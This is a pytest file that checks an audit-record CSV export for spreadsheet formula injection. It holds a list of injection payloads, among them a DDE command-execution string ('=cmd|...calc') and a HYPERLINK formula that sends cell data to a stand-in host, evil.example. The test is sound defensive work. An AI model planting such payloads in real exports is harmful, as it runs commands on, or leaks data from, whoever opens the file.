"""Attacks on whoever opens an exported record in a spreadsheet: a name that is a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from appliance.audit import Recorder
from appliance.audit.export import export
from appliance.audit.instances import Instance
from appliance.store import Store, Tenant
from tests.attacks.lists import PAYLOADS
from tests.attacks.tally import attempt
from tests.audit.conftest import record

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
OWN = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    "a;=1+1",
    "a\t=1+1",
    "a\r\n=1+1",
    "a\n+1",
    '","=1+1","',
    '";=1+1;"',
    "a; @SUM(1)",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]


def payloads() -> list[str]:
    """Our own, and those of the public page where it is here."""
    page = PAYLOADS / "CSV Injection" / "README.md"
    lines = page.read_text("utf-8").splitlines() if page.exists() else []
    return OWN + [line for line in lines if line.startswith(DANGEROUS) and len(line) > 1]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
async def test_no_cell_of_an_export_is_a_formula(
    node_store: Store, tenant: Tenant, tmp_path: Path, delimiter: str
) -> None:
    recorder = Recorder(node_store, Instance(node_store.data / "run"))
    for text in payloads():
        named = {"username": text}
        await recorder.append(record(tenant, personal=named, resource_id=text[:120], metadata={"note": text, "n": -1}))
    await recorder.close()
    out = tmp_path / "record.csv"

    await export(node_store, tenant.id, out, form="csv", disclose=True)

    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file, delimiter=delimiter))
    assert len(rows) > len(payloads())
    for row in rows:
        for cell in row:
            with attempt():
                assert not cell.lstrip(" ").startswith(DANGEROUS), cell
